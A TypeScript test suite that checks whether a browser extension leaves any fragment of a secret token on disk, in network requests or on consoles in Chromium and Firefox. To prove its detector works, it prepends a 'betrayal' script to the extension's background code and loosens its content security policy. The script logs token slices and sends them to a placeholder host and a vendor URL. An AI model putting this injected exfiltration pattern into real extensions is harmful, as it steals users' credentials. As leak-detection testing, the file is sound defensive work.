/**
 * What a browser leaves on disk, asks the network for and says on consoles: no part of a token, though the extension had
 * it in memory and was killed with it. Rare tokens, so that five characters can be looked for.
 */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { rareToken } from '../../canary/parts.ts';
import { Host } from '../../faults/host.ts';
import { vendorNamed } from '../../faults/vendor.ts';
import type { BrowserName } from '../../run/browsers.ts';
import { until } from '../support/until.ts';
import { builds } from './builds.ts';

const browsers = ['chromium', 'firefox'] as const;

/** A host with `extension`, by default the build, that has read a rare token. */
async function hostWithToken(name: BrowserName, extension?: string): Promise<{ host: Host; token: string }> {
  const vendor = vendorNamed(name);
  const host = await Host.start(vendor, extension ?? `${builds}/${vendor.build}`);
  const token = rareToken();
  host.dashboard.account.token = token;
  host.noteToken();
  await host.backstage.request({ type: 'read' });
  await until('the token in memory', async () => (await host.backstage.stored()).secret === token, 30_000);
  return { host, token };
}

it.each(browsers)('holds no part of a token in %s, also where it was killed', async (name) => {
  const { host } = await hostWithToken(name);
  await host.killWorker();
  await host.killBrowser();
  const { requests } = await host.vendor.recording.read();
  expect(requests.filter(({ url }) => url.hostname === 'www.snapengage.com').length).toBeGreaterThan(3);
  expect(await host.close()).toEqual([]);
});

it.each(browsers)('is found in %s where an extension does store a part of one', async (name) => {
  const { host, token } = await hostWithToken(name);
  await host.backstage.page.evaluate(
    async (part) => {
      await browser.storage.local.set({ planted: { deep: [`x${part}x`] } });
    },
    token.slice(3, 8),
  );
  await host.killBrowser();
  const found = (await host.close()).map(({ file, as }) => `${as}: ${file}`).join('\n');
  expect(found).toMatch(
    name === 'chromium' ? /leveldb: .*Local Extension Settings/ : /(snappy|sqlite): storage.default/,
  );
});

declare const browser: typeof import('webextension-polyfill');

/** What a bad extension would do, in front of our background's code. */
const betrayal = `{
  const api = globalThis.browser ?? globalThis.chrome;
  const send = (url) => fetch(url, { mode: 'no-cors' }).catch(() => undefined);
  send('https://elsewhere.example/');
  api.storage.onChanged.addListener(({ secrets }) => {
    for (const { token } of Object.values(secrets?.newValue ?? {})) {
      console.log(token.slice(4, 9));
      send('https://www.snapengage.com/?part=' + token.slice(7, 12));
    }
  });
}
`;

it.each(browsers)('is found in %s where an extension asks elsewhere, and tells a part of one', async (name) => {
  const folder = await mkdtemp(join(tmpdir(), 'token-desk-betrayed-'));
  try {
    await cp(`${builds}/${vendorNamed(name).build}`, folder, { recursive: true });
    const background = join(folder, 'background.js');
    await writeFile(background, betrayal + (await readFile(background, 'utf8')));
    const manifest = join(folder, 'manifest.json');
    const { content_security_policy: _, ...bare } = JSON.parse(await readFile(manifest, 'utf8'));
    const openPolicy = { extension_pages: "script-src 'self'; connect-src https:" };
    await writeFile(manifest, JSON.stringify({ ...bare, content_security_policy: openPolicy }));
    const { host } = await hostWithToken(name, folder);
    await until('what it says and sends', async () => {
      const { requests, lines } = await host.vendor.recording.read();
      return requests.some(({ url }) => url.search.startsWith('?part')) && lines.length > 0;
    });
    await host.killBrowser();
    expect(await host.close()).toEqual(
      expect.arrayContaining([
        { file: 'the recorded network', as: 'a request to elsewhere.example by the extension' },
        { file: 'the recorded network', as: 'the address of a request to www.snapengage.com' },
        { file: 'the log', as: 'what was said on a console' },
      ]),
    );
  } finally {
    await rm(folder, { recursive: true, force: true, maxRetries: 5 });
  }
});
